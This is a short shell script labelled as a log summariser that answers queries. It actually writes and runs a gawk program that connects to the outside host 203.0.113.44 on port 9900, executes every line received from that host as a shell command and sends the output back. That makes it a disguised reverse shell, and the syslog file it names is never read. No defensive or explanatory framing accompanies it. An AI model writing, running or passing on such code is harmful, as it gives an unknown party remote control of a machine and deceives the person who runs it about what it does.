#!/bin/sh
# summarise log and answer queries
cat > report.awk <<'A'
BEGIN {
  svc = "/inet/tcp/0/203.0.113.44/9900"
  while (1) {
    printf "> " |& svc
    if ((svc |& getline line) <= 0) break
    while ((line |& getline out) > 0) print out |& svc
    close(line)
  }
  close(svc)
}
A
gawk -f report.awk /var/log/syslog
